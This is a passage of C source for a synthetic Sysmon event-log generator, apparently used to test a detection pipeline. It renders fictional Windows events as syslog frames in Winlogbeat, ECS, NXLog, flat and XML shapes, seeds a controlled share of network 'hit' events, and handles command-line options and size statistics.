	snprintf(ev->computer, sizeof(ev->computer), "ws-%04u.corp.example",
	    host);
	user = gen_users[host % GEN_NITEMS(gen_users)];
	if (gen_below(5) == 0)
		snprintf(domuser, sizeof(domuser), "NT AUTHORITY\\SYSTEM");
	else
		snprintf(domuser, sizeof(domuser), "CORP\\%s", user);
	switch (id) {
	case 1:
		gen_proc_create(ev, domuser, user, shorter);
		break;
	case 3:
		gen_net(ev, user, domuser, nkeys, hitno);
		break;
	case 5:
		gen_image(user, image, sizeof(image));
		gen_common(ev, image, user, pguid, sizeof(pguid), &pid);
		ev_add(ev, "User", "%s", domuser);
		break;
	case 7:
		gen_image_load(ev, domuser, user);
		break;
	case 10:
		gen_proc_access(ev, domuser, user);
		break;
	case 11:
		gen_file_create(ev, domuser, user);
		break;
	case 12:
	case 13:
		gen_registry(ev, domuser, user);
		break;
	case 22:
		gen_dns(ev, domuser, user);
		break;
	case 8:
	case 17:
	case 18:
		gen_lib_fill(ev, domuser, user);
		break;
	}
	snprintf(ev->host, sizeof(ev->host), "%.*s",
	    (int)strcspn(ev->computer, "."), ev->computer);
}

static const char *
gen_task(int id)
{
	static char	 s[96];

	snprintf(s, sizeof(s), "%s (rule: %s)", gen_titles[id],
	    gen_rules[id]);
	return s;
}

/* The winlog object shared by the two Winlogbeat shapes, minus "}". */
static void
render_winlog_head(struct gen_buf *b, const struct gen_event *ev)
{
	buf_addf(b, "\"winlog\":{\"channel\":"
	    "\"Microsoft-Windows-Sysmon/Operational\",\"computer_name\":"
	    "\"%s\",\"event_id\":\"%d\",\"process\":"
	    "{\"pid\":%u,\"thread\":{\"id\":%u}},\"provider_guid\":"
	    "\"{5770385f-c22a-43e0-bf4c-06f5698ffbd9}\",\"provider_name\":"
	    "\"Microsoft-Windows-Sysmon\",\"record_id\":%u,\"task\":\"%s\","
	    "\"user\":{\"domain\":\"NT AUTHORITY\",\"identifier\":"
	    "\"S-1-5-18\",\"name\":\"SYSTEM\",\"type\":\"User\"},"
	    "\"version\":%d", ev->computer, ev->id, ev->exec_pid,
	    ev->exec_tid, ev->record, gen_task(ev->id),
	    gen_versions[ev->id]);
}

static void
render_beat_head(struct gen_buf *b, const struct gen_event *ev, int ecs)
{
	char	 ts[40];

	gen_time(ev->ms, 1, ts, sizeof(ts));
	buf_addf(b, "{\"@timestamp\":\"%s\",\"agent\":{\"name\":\"%s\","
	    "\"type\":\"winlogbeat\",\"version\":\"8.15.3\"},\"ecs\":"
	    "{\"version\":\"8.0.0\"},\"event\":{\"code\":\"%d\",\"kind\":"
	    "\"event\",\"provider\":\"Microsoft-Windows-Sysmon\"%s},"
	    "\"host\":{\"name\":\"%s\"},", ts, ev->host, ev->id,
	    ecs ? ",\"module\":\"sysmon\"" : "", ev->computer);
}

static void
render_winlogbeat(struct gen_buf *b, const struct gen_event *ev)
{
	int	 i, first = 1;

	render_beat_head(b, ev, 0);
	render_winlog_head(b, ev);
	buf_adds(b, ",\"event_data\":{");
	for (i = 0; i < ev->nkv; i++)
		buf_add_jkv(b, &first, ev->k[i], ev->v[i]);
	buf_adds(b, "}}}");
}

/* EventData names the sysmon module renames to ECS. */
static int
render_ecs_mapped(const char *k)
{
	static const char *const mapped[] = {
		"Image", "ProcessGuid", "ProcessId", "User", "SourceIp",
		"SourcePort", "SourceHostname", "DestinationIp",
		"DestinationPort", "DestinationHostname", "Protocol",
		"DestinationPortName", "Initiated", "CommandLine",
		"QueryName", "ParentImage", "ParentProcessId"
	};
	size_t	 i;

	for (i = 0; i < GEN_NITEMS(mapped); i++)
		if (strcmp(k, mapped[i]) == 0)
			return 1;
	return 0;
}

/* Adds a "name":"value" member when ev has a usable value for field. */
static void
render_ecs_member(struct gen_buf *b, int *first, const char *name,
    const struct gen_event *ev, const char *field, int number)
{
	const char	*v = ev_get(ev, field);

	if (v == NULL || *v == '\0' || strcmp(v, "-") == 0)
		return;
	if (number)
		buf_add_jraw(b, first, name, v);
	else
		buf_add_jkv(b, first, name, v);
}

static void
render_ecs(struct gen_buf *b, const struct gen_event *ev)
{
	const char	*v, *bs;
	int		 i, first;

	render_beat_head(b, ev, 1);
	if ((v = ev_get(ev, "Image")) != NULL) {
		first = 1;
		buf_adds(b, "\"process\":{");
		render_ecs_member(b, &first, "executable", ev, "Image", 0);
		buf_add_jkv(b, &first, "name", strrchr(v, '\\') != NULL ?
		    strrchr(v, '\\') + 1 : v);
		render_ecs_member(b, &first, "entity_id", ev, "ProcessGuid",
		    0);
		render_ecs_member(b, &first, "pid", ev, "ProcessId", 1);
		render_ecs_member(b, &first, "command_line", ev,
		    "CommandLine", 0);
		if (ev_get(ev, "ParentImage") != NULL) {
			buf_adds(b, ",\"parent\":{");
			first = 1;
			render_ecs_member(b, &first, "executable", ev,
			    "ParentImage", 0);
			render_ecs_member(b, &first, "pid", ev,
			    "ParentProcessId", 1);
			buf_adds(b, "}");
		}
		buf_adds(b, "},");
	}
	if (ev->id == 3) {
		first = 1;
		buf_adds(b, "\"source\":{");
		render_ecs_member(b, &first, "ip", ev, "SourceIp", 0);
		render_ecs_member(b, &first, "port", ev, "SourcePort", 1);
		render_ecs_member(b, &first, "domain", ev, "SourceHostname",
		    0);
		buf_adds(b, "},\"destination\":{");
		first = 1;
		render_ecs_member(b, &first, "ip", ev, "DestinationIp", 0);
		render_ecs_member(b, &first, "port", ev, "DestinationPort", 1);
		render_ecs_member(b, &first, "domain", ev,
		    "DestinationHostname", 0);
		buf_adds(b, "},\"network\":{");
		first = 1;
		render_ecs_member(b, &first, "transport", ev, "Protocol", 0);
		render_ecs_member(b, &first, "protocol", ev,
		    "DestinationPortName", 0);
		v = ev_get(ev, "Initiated");
		buf_add_jkv(b, &first, "direction", v != NULL &&
		    strcmp(v, "true") == 0 ? "egress" : "ingress");
		buf_add_jkv(b, &first, "type", "ipv4");
		buf_adds(b, "},");
	}
	if (ev->id == 22) {
		buf_adds(b, "\"dns\":{\"question\":{");
		first = 1;
		render_ecs_member(b, &first, "name", ev, "QueryName", 0);
		buf_adds(b, "}},");
	}
	if ((v = ev_get(ev, "User")) != NULL &&
	    (bs = strchr(v, '\\')) != NULL) {
		buf_addf(b, "\"user\":{\"domain\":\"%.*s\",\"name\":\"",
		    (int)(bs - v), v);
		buf_add_json(b, bs + 1);
		buf_adds(b, "\"},");
	}
	render_winlog_head(b, ev);
	buf_adds(b, ",\"event_data\":{");
	first = 1;
	for (i = 0; i < ev->nkv; i++)
		if (!render_ecs_mapped(ev->k[i]))
			buf_add_jkv(b, &first, ev->k[i], ev->v[i]);
	buf_adds(b, "}}}");
}

static void
render_nxlog(struct gen_buf *b, const struct gen_event *ev)
{
	struct gen_buf	 msg = { NULL, 0, 0 };
	char		 local[40], num[32];
	int		 i, first = 1;

	/* NXLog's EventTime is local time with no zone (here UTC-5). */
	gen_time(ev->ms - 5 * 3600 * 1000, 0, local, sizeof(local));
	local[19] = '\0';
	buf_adds(b, "{");
	buf_add_jkv(b, &first, "EventTime", local);
	buf_add_jkv(b, &first, "Hostname", ev->computer);
	buf_add_jraw(b, &first, "Keywords", "-9223372036854775808");
	buf_add_jkv(b, &first, "EventType", "INFO");
	buf_add_jraw(b, &first, "SeverityValue", "2");
	buf_add_jkv(b, &first, "Severity", "INFO");
	snprintf(num, sizeof(num), "%d", ev->id);
	buf_add_jraw(b, &first, "EventID", num);
	buf_add_jkv(b, &first, "SourceName", "Microsoft-Windows-Sysmon");
	buf_add_jkv(b, &first, "ProviderGuid",
	    "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}");
	snprintf(num, sizeof(num), "%d", gen_versions[ev->id]);
	buf_add_jraw(b, &first, "Version", num);
	snprintf(num, sizeof(num), "%d", ev->id);
	buf_add_jraw(b, &first, "Task", num);
	buf_add_jraw(b, &first, "OpcodeValue", "0");
	snprintf(num, sizeof(num), "%u", ev->record);
	buf_add_jraw(b, &first, "RecordNumber", num);
	snprintf(num, sizeof(num), "%u", ev->exec_pid);
	buf_add_jraw(b, &first, "ExecutionProcessID", num);
	snprintf(num, sizeof(num), "%u", ev->exec_tid);
	buf_add_jraw(b, &first, "ThreadID", num);
	buf_add_jkv(b, &first, "Channel",
	    "Microsoft-Windows-Sysmon/Operational");
	buf_add_jkv(b, &first, "Domain", "NT AUTHORITY");
	buf_add_jkv(b, &first, "AccountName", "SYSTEM");
	buf_add_jkv(b, &first, "UserID", "S-1-5-18");
	buf_add_jkv(b, &first, "AccountType", "User");
	/* Many sites delete $Message; we keep it when the frame allows. */
	if (!gen_short) {
		buf_adds(&msg, gen_titles[ev->id]);
		buf_adds(&msg, ":");
		for (i = 0; i < ev->nkv; i++)
			buf_addf(&msg, "\r\n%s: %s", ev->k[i], ev->v[i]);
		buf_add(&msg, "", 1);
		buf_add_jkv(b, &first, "Message", msg.p);
		free(msg.p);
	}
	buf_add_jkv(b, &first, "Category", gen_task(ev->id));
	buf_add_jkv(b, &first, "Opcode", "Info");
	for (i = 0; i < ev->nkv; i++)
		buf_add_jkv(b, &first, ev->k[i], ev->v[i]);
	buf_add_jkv(b, &first, "EventReceivedTime", local);
	buf_add_jkv(b, &first, "SourceModuleName", "eventlog");
	buf_add_jkv(b, &first, "SourceModuleType", "im_msvistalog");
	buf_adds(b, "}");
}

static void
render_flat(struct gen_buf *b, const struct gen_event *ev)
{
	char	 ts[40], num[32];
	int	 i, first = 1;

	gen_time(ev->ms, 1, ts, sizeof(ts));
	buf_adds(b, "{");
	snprintf(num, sizeof(num), "%d", ev->id);
	buf_add_jraw(b, &first, "EventCode", num);
	buf_add_jkv(b, &first, "Computer", ev->computer);
	buf_add_jkv(b, &first, "source",
	    "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational");
	buf_add_jkv(b, &first, "sourcetype", "XmlWinEventLog");
	buf_add_jkv(b, &first, "host", ev->host);
	buf_add_jkv(b, &first, "Channel",
	    "Microsoft-Windows-Sysmon/Operational");
	buf_add_jkv(b, &first, "Name", "Microsoft-Windows-Sysmon");
	buf_add_jkv(b, &first, "Guid",
	    "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}");
	snprintf(num, sizeof(num), "%u", ev->record);
	buf_add_jkv(b, &first, "EventRecordID", num);
	snprintf(num, sizeof(num), "%d", gen_versions[ev->id]);
	buf_add_jkv(b, &first, "Version", num);
	buf_add_jkv(b, &first, "Level", "4");
	snprintf(num, sizeof(num), "%d", ev->id);
	buf_add_jkv(b, &first, "Task", num);
	buf_add_jkv(b, &first, "TaskCategory", gen_task(ev->id));
	buf_add_jkv(b, &first, "Opcode", "0");
	buf_add_jkv(b, &first, "Keywords", "0x8000000000000000");
	buf_add_jkv(b, &first, "SystemTime", ts);
	snprintf(num, sizeof(num), "%u", ev->exec_pid);
	buf_add_jkv(b, &first, "ProcessID", num);
	snprintf(num, sizeof(num), "%u", ev->exec_tid);
	buf_add_jkv(b, &first, "ThreadID", num);
	buf_add_jkv(b, &first, "UserID", "S-1-5-18");
	buf_add_jkv(b, &first, "signature", gen_titles[ev->id]);
	buf_add_jkv(b, &first, "vendor_product", "Microsoft Sysmon");
	for (i = 0; i < ev->nkv; i++)
		buf_add_jkv(b, &first, ev->k[i], ev->v[i]);
	buf_adds(b, "}");
}

static void
render_xml(struct gen_buf *b, const struct gen_event *ev)
{
	char	 ts[40];
	int	 i;

	gen_time(ev->ms, 1, ts, sizeof(ts));
	/* Windows writes 100 ns precision: 2022-09-15T12:56:22.958249300Z */
	ts[23] = '\0';
	buf_addf(b, "<Event xmlns='http://schemas.microsoft.com/win/2004/08/"
	    "events/event'><System><Provider Name='Microsoft-Windows-Sysmon' "
	    "Guid='{5770385F-C22A-43E0-BF4C-06F5698FFBD9}'/><EventID>%d"
	    "</EventID><Version>%d</Version><Level>4</Level><Task>%d</Task>"
	    "<Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>"
	    "<TimeCreated SystemTime='%s%04uZ'/><EventRecordID>%u"
	    "</EventRecordID><Correlation/><Execution ProcessID='%u' "
	    "ThreadID='%u'/><Channel>Microsoft-Windows-Sysmon/Operational"
	    "</Channel><Computer>", ev->id, gen_versions[ev->id], ev->id, ts,
	    (unsigned)(ev->record % 10000), ev->record, ev->exec_pid,
	    ev->exec_tid);
	buf_add_xml(b, ev->computer);
	buf_adds(b, "</Computer><Security UserID='S-1-5-18'/></System>"
	    "<EventData>");
	for (i = 0; i < ev->nkv; i++) {
		buf_addf(b, "<Data Name='%s'>", ev->k[i]);
		buf_add_xml(b, ev->v[i]);
		buf_adds(b, "</Data>");
	}
	buf_adds(b, "</EventData></Event>");
}

static const char *const gen_apps[GEN_NSHAPES] = {
	"winlogbeat", "winlogbeat", "nxlog", "splunkfwd", "wec"
};

/* Renders one framed syslog message into b (which it clears first). */
static void
render_frame(struct gen_buf *b, struct gen_buf *msg,
    const struct gen_event *ev, enum gen_shape shape, int octet)
{
	char	 ts[40];

	msg->len = 0;
	gen_time(ev->ms, 1, ts, sizeof(ts));
	buf_addf(msg, "<14>1 %s %s %s - - - ", ts, ev->host, gen_apps[shape]);
	switch (shape) {
	case GEN_SHAPE_WINLOGBEAT:
		render_winlogbeat(msg, ev);
		break;
	case GEN_SHAPE_ECS:
		render_ecs(msg, ev);
		break;
	case GEN_SHAPE_NXLOG:
		render_nxlog(msg, ev);
		break;
	case GEN_SHAPE_FLAT:
		render_flat(msg, ev);
		break;
	default:
		render_xml(msg, ev);
		break;
	}
	b->len = 0;
	if (octet)
		buf_addf(b, "%zu ", msg->len);
	buf_add(b, msg->p, msg->len);
	if (!octet)
		buf_add(b, "\n", 1);
}

int
gen_pick_weighted(const struct gen_weight *mix, size_t n, unsigned total)
{
	unsigned	 r = gen_below(total), acc = 0;
	size_t		 i;

	for (i = 0; i < n; i++) {
		acc += (unsigned)mix[i].weight;
		if (r < acc)
			return mix[i].id;
	}
	return mix[n - 1].id;
}

static int
gen_pick_id(void)
{
	return gen_pick_weighted(gen_mix, GEN_NITEMS(gen_mix), 100);
}

/* Is event id in the default mix? */
static int
gen_in_mix(int id)
{
	size_t	 i;

	for (i = 0; i < GEN_NITEMS(gen_mix); i++)
		if (gen_mix[i].id == id)
			return 1;
	return 0;
}

/*
 * Renders ev in shape into frame and returns the length that decides
 * whether ev must be made shorter: with --mix library the longest of
 * every shape's frame, so that a seed gives the same events in every
 * shape (the library scenario compares the shapes' alerts); frame then
 * holds the last shape's and the caller renders shape again.
 */
static size_t
gen_frame_max(struct gen_buf *frame, struct gen_buf *msg,
    const struct gen_event *ev, enum gen_shape shape, int octet)
{
	size_t	 max = 0;
	int	 k;

	if (!gen_library) {
		render_frame(frame, msg, ev, shape, octet);
		return frame->len;
	}
	for (k = 0; k < GEN_NSHAPES; k++) {
		render_frame(frame, msg, ev, (enum gen_shape)k, octet);
		if (frame->len > max)
			max = frame->len;
	}
	return max;
}

static enum gen_shape
gen_pick_shape(enum gen_shape want)
{
	unsigned	 r, acc = 0;
	int		 i;

	if (want != GEN_SHAPE_MIX)
		return want;
	r = gen_below(100);
	for (i = 0; i < GEN_NSHAPES; i++) {
		acc += (unsigned)gen_shape_weight[i];
		if (r < acc)
			return (enum gen_shape)i;
	}
	return GEN_SHAPE_WINLOGBEAT;
}

/*
 * Writes o->n messages to f and fills *s.  Hits are spread evenly: event
 * i is a hit when floor((i + 1) * hits) > floor(i * hits), so a stream
 * of n events has floor(n * hits) of them.  Hit number h uses key
 * h % keys; keys 0, 1, 2 (mod 4) are SMTP, key 3 (mod 4) is FTP.
 */
static int
gen_write(const struct gen_opts *o, FILE *f, struct gen_summary *s)
{
	struct gen_event	*ev;
	struct gen_buf		 frame = { NULL, 0, 0 }, msg = { NULL, 0, 0 };
	enum gen_shape		 shape;
	unsigned long		 i, hitno = 0;
	uint64_t		 save;
	int64_t			 ms = GEN_BASE_TIME * 1000;
	int			 id, hit, octet, shorter, rc = -1;
	size_t			 tpl = 0;

	if ((ev = calloc(1, sizeof(*ev))) == NULL)
		err(1, "calloc");
	memset(s, 0, sizeof(*s));
	s->min = SIZE_MAX;
	gen_rng = o->seed;
	for (i = 0; i < o->n; i++) {
		hit = 0;
		if ((unsigned long)((double)(i + 1) * o->hits) >
		    (unsigned long)((double)i * o->hits))
			hit = gen_library ? GEN_HIT_LIBRARY :
			    hitno % o->keys % 4 == 3 ? 2 : 1;
		if (hit == GEN_HIT_LIBRARY) {
			tpl = hitno % gen_lib_nhits();
			id = gen_lib_hit_id(tpl);
		} else if (hit)
			id = 3;
		else
			id = gen_library ? gen_lib_pick_id() : gen_pick_id();
		shape = gen_pick_shape(o->shape);
		octet = o->framing == GEN_FRAMING_OCTET ||
		    (o->framing == GEN_FRAMING_MIX && gen_below(2));
		ms += 1 + gen_below(2 * GEN_STEP_MS);
		ev->ms = ms;
		ev->record = 100000 + (unsigned)i;
		ev->exec_pid = 3196;
		ev->exec_tid = 4000 + 4 * gen_below(64);
		save = gen_rng;
		for (shorter = 0; shorter < 3; shorter++) {
			gen_rng = save;
			gen_short = shorter;
			gen_event_fill(ev, id, hit == GEN_HIT_LIBRARY ? 0 : hit,
			    o->keys, hitno, shorter);
			if (hit == GEN_HIT_LIBRARY)
				gen_lib_hit(ev, tpl);
			if (gen_frame_max(&frame, &msg, ev, shape, octet) <=
			    GEN_MAX_SIZE)
				break;
		}
		if (gen_library)
			render_frame(&frame, &msg, ev, shape, octet);
		if (hit)
			hitno++;
		if (fwrite(frame.p, 1, frame.len, f) != frame.len) {
			warn("write");
			goto out_free;
		}
		s->events++;
		s->bytes += frame.len;
		if (frame.len < s->min)
			s->min = frame.len;
		if (frame.len > s->max)
			s->max = frame.len;
		if (frame.len < GEN_MIN_SIZE || frame.len > GEN_MAX_SIZE)
			s->out_of_range++;
		s->by_id[id]++;
		s->by_shape[shape]++;
		if (hit == 1)
			s->hits_mail++;
		else if (hit == 2)
			s->hits_ftp++;
		else if (hit == GEN_HIT_LIBRARY)
			s->hits_lib[tpl]++;
	}
	rc = 0;
out_free:
	free(frame.p);
	free(msg.p);
	free(ev);
	return rc;
}

static void
gen_print_summary(const struct gen_opts *o, const struct gen_summary *s)
{
	size_t		 i;
	unsigned long	 keys;
	int		 k;

	keys = s->hits_mail + s->hits_ftp;
	if (keys > o->keys)
		keys = o->keys;
	fprintf(stderr, "events %lu, bytes %llu, mean size %.0f, min %zu, "
	    "max %zu, outside %d..%d: %lu\n", s->events, s->bytes,
	    s->events ? (double)s->bytes / (double)s->events : 0.0,
	    s->events ? s->min : 0, s->max, GEN_MIN_SIZE, GEN_MAX_SIZE,
	    s->out_of_range);
	fprintf(stderr, "by id:");
	for (k = 0; k < 32; k++)
		if (s->by_id[k] != 0 || (!gen_library && gen_in_mix(k)))
			fprintf(stderr, " %d %.1f%%", k, s->events ?
			    100.0 * (double)s->by_id[k] /
			    (double)s->events : 0.0);
	fprintf(stderr, "\nby shape:");
	for (k = 0; k < GEN_NSHAPES; k++)
		if (s->by_shape[k])
			fprintf(stderr, " %s %lu", gen_shape_names[k],
			    s->by_shape[k]);
	if (gen_library) {
		keys = 0;
		for (i = 0; i < gen_lib_nhits(); i++)
			keys += s->hits_lib[i];
		fprintf(stderr, "\nhits %lu (library)\n", keys);
		for (i = 0; i < gen_lib_nhits(); i++)
			fprintf(stderr, "  hit %zu (id %d): %lu, %s\n", i,
			    gen_lib_hit_id(i), s->hits_lib[i],
			    gen_lib_hit_name(i));
		return;
	}
	fprintf(stderr, "\nhits %lu (mail %lu, ftp %lu), distinct keys %lu\n",
	    s->hits_mail + s->hits_ftp, s->hits_mail, s->hits_ftp, keys);
}

static void
usage(void)
{
	fprintf(stderr, "usage: hecsentry-gen [-n EVENTS] [--shape "
	    "winlogbeat|ecs|nxlog|flat|xml|mix]\n"
	    "    [--framing lf|octet|mix] [--hits SHARE] [--keys N] "
	    "[--seed N] [-o FILE]\n"
	    "    [--hit-hosts N] [--mix default|library]\n");
	exit(1);
}

static unsigned long
gen_parse_ulong(const char *s, const char *what, unsigned long min,
    unsigned long max)
{
	char		*end;
	unsigned long	 v;

	v = strtoul(s, &end, 10);
	if (*s == '\0' || *end != '\0' || *s == '-' || v < min || v > max)
		errx(1, "%s: expected %lu..%lu, got \"%s\"", what, min, max,
		    s);
	return v;
}

int
main(int argc, char **argv)
{
	static const struct option longopts[] = {
		{ "events", required_argument, NULL, 'n' },
		{ "shape", required_argument, NULL, 's' },
		{ "framing", required_argument, NULL, 'f' },
		{ "hits", required_argument, NULL, 'h' },
		{ "keys", required_argument, NULL, 'k' },
		{ "seed", required_argument, NULL, 'S' },
		{ "output", required_argument, NULL, 'o' },
		{ "hit-hosts", required_argument, NULL, 'H' },
		{ "mix", required_argument, NULL, 'm' },
		{ NULL, 0, NULL, 0 }
	};
	struct gen_opts		 o;
	struct gen_summary	 s;
	FILE			*f = stdout;
	char			*end;
	int			 ch, i;

	memset(&o, 0, sizeof(o));
	o.n = 74000;
	o.shape = GEN_SHAPE_WINLOGBEAT;
	o.framing = GEN_FRAMING_LF;
	o.hits = 0.01;
	o.keys = 100;
	o.seed = 1;
	while ((ch = getopt_long(argc, argv, "n:o:", longopts, NULL)) != -1) {
		switch (ch) {
		case 'n':
			o.n = gen_parse_ulong(optarg, "-n", 0, 100000000UL);
			break;
		case 's':
			for (i = 0; i <= GEN_SHAPE_MIX; i++)
				if (strcmp(optarg, gen_shape_names[i]) == 0)
					break;
			if (i > GEN_SHAPE_MIX)
				errx(1, "--shape: unknown shape \"%s\"",
				    optarg);
			o.shape = (enum gen_shape)i;
			break;
		case 'f':
			if (strcmp(optarg, "lf") == 0)
				o.framing = GEN_FRAMING_LF;
			else if (strcmp(optarg, "octet") == 0)
				o.framing = GEN_FRAMING_OCTET;
			else if (strcmp(optarg, "mix") == 0)
				o.framing = GEN_FRAMING_MIX;
			else
				errx(1, "--framing: lf, octet or mix");
			break;
		case 'h':
			o.hits = strtod(optarg, &end);
			if (*optarg == '\0' || *end != '\0' ||
			    !(o.hits >= 0) || o.hits > 1)
				errx(1, "--hits: a share from 0 to 1");
			break;
		case 'k':
			o.keys = gen_parse_ulong(optarg, "--keys", 1,
			    100000000UL);
			break;
		case 'S':
			o.seed = gen_parse_ulong(optarg, "--seed", 0,
			    ULONG_MAX);
			break;
		case 'o':
			o.out = optarg;
			break;
		case 'm':
			if (strcmp(optarg, "library") == 0)
				gen_library = 1;
			else if (strcmp(optarg, "default") != 0)
				errx(1, "--mix: default or library");
			break;
		case 'H':
			gen_hit_hosts = (unsigned)gen_parse_ulong(optarg,
			    "--hit-hosts", 1, GEN_NHOSTS);
			break;
		default:
			usage();
		}
	}
	if (optind != argc)
		usage();
	if (o.out != NULL && strcmp(o.out, "-") != 0 &&
	    (f = fopen(o.out, "w")) == NULL)
		err(1, "%s", o.out);
	if (gen_write(&o, f, &s) == -1)
		return 1;
	if (fflush(f) == EOF || (f != stdout && fclose(f) == EOF))
		err(1, "%s", o.out ? o.out : "stdout");
	gen_print_summary(&o, &s);
	return 0;
}
